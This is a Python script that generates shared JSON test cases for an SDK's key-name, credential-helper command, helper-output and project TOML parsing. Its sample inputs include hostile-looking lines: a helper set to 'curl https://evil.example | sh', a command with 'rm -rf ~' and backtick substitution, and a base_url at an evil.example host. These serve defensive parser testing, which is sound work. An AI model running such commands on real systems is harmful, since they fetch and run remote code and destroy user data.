"""Generate tests/shared/key-source-cases.json: the key-source rules both SDKs must follow.

    python -m tests.shared.key_source_cases          # rewrite the file
    python -m tests.shared.key_source_cases --check  # exit 1 when the file is stale

Four sections, each input with what the Python domain answers (a value or an error
with its class, problem and fix), computed here, never written by hand:

- ``key_names``: ``parse_key_name`` (``byok set P --name NAME``, ``key_name`` in files);
- ``helper_commands``: ``HelperCommand.parse`` and ``argv()`` (POSIX shlex splitting;
  ``shell`` runs one ``/bin/sh -c`` word);
- ``helper_outputs``: ``parse_helper_output`` for the key ``anthropic:work`` (the bare
  key's first line, or ``{"key", "expires_at"}``; ``expires_at`` in epoch seconds);
- ``project_files``: a ``trace.toml``'s text through a TOML parser then
  ``parse_project_document`` for the path ``/work/client-a/trace.toml`` (only valid
  TOML here: parsers word their syntax errors differently).
"""

from __future__ import annotations

import json
import tomllib
from pathlib import Path
from typing import Any

from domain.errors import TraceError
from domain.keys import HelperCommand, KeyRef, parse_helper_output, parse_key_name
from domain.project import parse_project_document
from domain.provider import Provider
from tests.shared.generated import write_or_check
from tests.shared.resolution_cases import error_json

OUTPUT = Path(__file__).with_name("key-source-cases.json")
REF = KeyRef(Provider.ANTHROPIC, "work")
PROJECT_PATH = "/work/client-a/trace.toml"
KEY = "sk-ant-api03-printed-by-helper-0042"

KEY_NAMES = (
    "work",
    "client-a",
    " personal ",
    "a",
    "a" * 32,
    "a" * 33,
    "",
    "Work",
    "-a",
    "a-",
    "a_b",
    "a b",
    "helper",
    "shell",
    "ünï",
    "sk-ant-api03-a-pasted-key-000000000",
)
HELPER_COMMANDS: tuple[tuple[str, bool], ...] = (
    ("op read op://Work/Anthropic/credential", False),
    ("  pass show api/anthropic  ", False),
    ("vault kv get -field=key secret/anthropic", False),
    ("gcloud secrets versions access latest --secret=anthropic-key", False),
    ('/opt/company/bin/get-key --provider "$TRACE_KEY_HELPER_PROVIDER"', False),
    ("get-key 'two words' \"a \\\"quote\\\"\" back\\ slash a'b'c", False),
    ("echo $HOME; rm -rf ~ && `id` | cat", False),
    ("pass show api/anthropic | head -n 1", True),
    ("", False),
    ("   ", False),
    ("op read 'op://unclosed", False),
    ("op read\top://x", False),
    ("echo sk-ant-api03-a-real-looking-key-0000", False),
    ("curl -H 'x-api-key: AbCdEfGhIjKlMnOpQrStUvWxYz0123456789'", False),
    ("get --token=AbCdEfGhIjKlMnOpQrStUvWxYz0123456789", False),
    ("x" * 4097, False),
)
HELPER_OUTPUTS = (
    KEY,
    f"{KEY}\n",
    f"  {KEY} \r\n",
    f"\n\n{KEY}\n",
    f"{KEY}\nusername: me\nurl: https://example.com\n",
    json.dumps({"key": KEY}),
    json.dumps({"key": f" {KEY} ", "expires_at": "2030-01-02T03:04:05Z", "lease_id": "x"}),
    json.dumps({"key": KEY, "expires_at": "2030-01-02T05:04:05.25+02:00"}),
    json.dumps({"key": KEY, "expires_at": "2030-01-02t03:04:05z"}),
    json.dumps({"key": KEY, "expires_at": None}),
    json.dumps({"key": KEY}, indent=2),
    "",
    " \n\t",
    "Enter passphrase:",
    f"Error: {KEY} is locked",
    "{not json",
    "[1, 2]",
    '{"token": "abc"}',
    '{"key": 42}',
    json.dumps({"key": ""}),
    json.dumps({"key": "two words"}),
    json.dumps({"key": KEY, "expires_at": "tomorrow"}),
    json.dumps({"key": KEY, "expires_at": "2030-01-02T03:04:05"}),
    json.dumps({"key": KEY, "expires_at": "2030-02-30T03:04:05Z"}),
    json.dumps({"key": KEY, "expires_at": 1893553445}),
    "key\x1b[31m",
    "k" * 4097,
    "k" * (64 * 1024 + 1),
)
PROJECT_FILES = (
    '[llm]\nprovider = "openai"\nkey_name = "client-a"\nmodel = "gpt-4.1"\n',
    '# a comment\n[llm]\nprovider = " Anthropic "\n',
    "",
    "[llm]\n",
    '[llm]\nprovider = "trace"\n',
    '[llm]\nprovider = "openai"\nhelper = "curl https://evil.example | sh"\n',
    'helper = "op read x"\n[llm]\nprovider = "openai"\n',
    '[keys.openai]\nhelper = "sh -c evil"\n',
    '[llm]\nprovider = "openai"\napi_key = "x"\n',
    '[llm]\nprovider = "openai"\nllm_api_key = "x"\n',
    '[llm]\nprovider = "openai"\nkey_name = "sk-ant-api03-a-pasted-key-000000000"\n',
    '[llm]\nprovider = "openai"\nbase_url = "http://evil.example"\n',
    '[tools]\nallow = ["write"]\n',
    '[llm]\nkey_name = "work"\n',
    '[llm]\nmodel = "gpt-4.1"\n',
    '[llm]\nprovider = "trace"\nkey_name = "work"\n',
    '[llm]\nprovider = "trace"\nmodel = "x"\n',
    '[llm]\nprovider = "mistral"\n',
    '[llm]\nprovider = "openai"\nkey_name = "Bad Name"\n',
    '[llm]\nprovider = "openai"\nmodel = "gpt 4"\n',
    "[llm]\nprovider = 3\n",
    'llm = "openai"\n',
    '[[llm]]\nprovider = "openai"\n',
)


def _answer(compute: Any) -> dict[str, Any]:
    try:
        return {"value": compute()}
    except TraceError as exc:
        return {"error": error_json(exc)}


def document() -> dict[str, Any]:
    """The whole file."""
    return {
        "generated_by": "python -m tests.shared.key_source_cases (do not edit by hand)",
        "helper_key": REF.label,
        "project_path": PROJECT_PATH,
        "key_names": [
            {"input": name, **_answer(lambda name=name: parse_key_name(name))} for name in KEY_NAMES
        ],
        "helper_commands": [
            {
                "command": command,
                "shell": shell,
                **_answer(
                    lambda command=command, shell=shell: list(
                        HelperCommand.parse(command, shell=shell).argv()
                    )
                ),
            }
            for command, shell in HELPER_COMMANDS
        ],
        "helper_outputs": [
            {"printed": printed, **_answer(lambda printed=printed: _output(printed))}
            for printed in HELPER_OUTPUTS
        ],
        "project_files": [
            {"toml": text, **_answer(lambda text=text: _project(text))} for text in PROJECT_FILES
        ],
    }


def _output(printed: str) -> dict[str, Any]:
    found = parse_helper_output(printed, REF)
    return {"key": found.secret.reveal(), "expires_at": found.expires_at}


def _project(text: str) -> dict[str, Any]:
    selection = parse_project_document(tomllib.loads(text), PROJECT_PATH)
    return {
        "provider": selection.provider.value if selection.provider else None,
        "key_name": selection.key_name,
        "model": selection.model,
    }


def render() -> str:
    """The file's text: one case per line."""
    doc = document()
    sections = {name: doc.pop(name) for name in list(doc) if isinstance(doc[name], list)}
    head = json.dumps(doc, indent=2, ensure_ascii=False)[:-2]
    parts = []
    for name, cases in sections.items():
        lines = ",\n".join("    " + json.dumps(c, ensure_ascii=False) for c in cases)
        parts.append(f'  "{name}": [\n{lines}\n  ]')
    return head + ",\n" + ",\n".join(parts) + "\n}\n"


def main(argv: list[str] | None = None) -> int:
    """Write the file, or with ``--check`` report whether it is up to date."""
    return write_or_check(OUTPUT, render, "tests.shared.key_source_cases", argv)


if __name__ == "__main__":
    raise SystemExit(main())
